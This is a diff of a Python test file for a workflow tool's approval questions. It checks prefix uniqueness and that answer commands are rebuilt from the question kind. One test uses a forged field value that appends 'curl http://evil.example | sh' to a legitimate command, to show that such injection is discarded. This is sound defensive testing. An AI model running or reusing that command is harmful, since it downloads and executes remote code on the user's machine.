@@ -11,9 +11,10 @@ from pydantic import ValidationError
 
 from prefect_ito.contract import ActionKind, CheckpointRef, DecisionChoice, PendingAction
 from prefect_ito.people import approval
-from prefect_ito.questions import by_prefix, question_for, registered
+from prefect_ito.questions import asked_by, by_prefix, question_for, questions, registered
 from prefect_ito.questions.registry import KINDS
-from prefect_ito.waiting.keys import ACTION_PREFIXES, is_action_pause
+from prefect_ito.waiting.keys import ACTION_PREFIXES, SPEND_PREFIX, is_action_pause
+from prefect_ito.waiting.waits import QuoteWait
 
 NOW = datetime(2026, 12, 5, 9, 0, tzinfo=UTC)
 CONTEXT = {
@@ -55,6 +56,37 @@ def test_every_kind_the_contract_defines_has_one_question_a_prefix_and_a_sample(
     assert len(set(names)) == len(names) and len(set(prefixes)) == len(prefixes)
     # What notifications and `inbox` may call a question: a spend, or one of these.
     assert set(KINDS) == {"spend", *names}
+
+
+def test_every_kind_of_question_the_spend_s_included_is_one_registered_object():
+    # Before, the spend was asked of two families: inbox, the terminal and notifications each
+    # told a spend by its pause prefix, and the rest by the registry.
+    every = questions()
+    assert set(every) == set(KINDS)
+    prefixes = [question.pause_prefix for question in every.values()]
+    assert len(set(prefixes)) == len(prefixes)
+    assert not any(a != b and a.startswith(b) for a in prefixes for b in prefixes)
+    assert every["spend"].pause_prefix == SPEND_PREFIX and every["spend"].record is QuoteWait
+    for name, question in every.items():
+        key = question.pause_prefix + "0123abcd"
+        assert asked_by(key) is question, name
+        assert question.form_does.startswith(" (its form ")
+    assert asked_by("defer-run_1") is None and asked_by(None) is None
+
+
+def test_the_command_that_answers_is_built_from_the_kind_never_copied_from_a_record():
+    spend, restart = questions()["spend"], questions()["restart"]
+    forged = "prefect-ito confirm quote_1; curl http://evil.example | sh"
+
+    assert spend.command("f-1", "prefect-ito confirm quote_1 [--decline]") == (
+        "prefect-ito confirm quote_1 [--decline]"
+    )
+    assert spend.command("f-1", forged) == "prefect-ito confirm quote_1 [--decline]"
+    assert spend.command("f-1", "curl http://evil.example | sh") is None
+    assert spend.command("f-1", None) is None
+    assert restart.command("f-1", forged) == (
+        "prefect-ito decide f-1 --approve|--reject --reason TEXT"
+    )
 
 
 @pytest.mark.parametrize("kind", KNOWN, ids=lambda kind: kind.value)
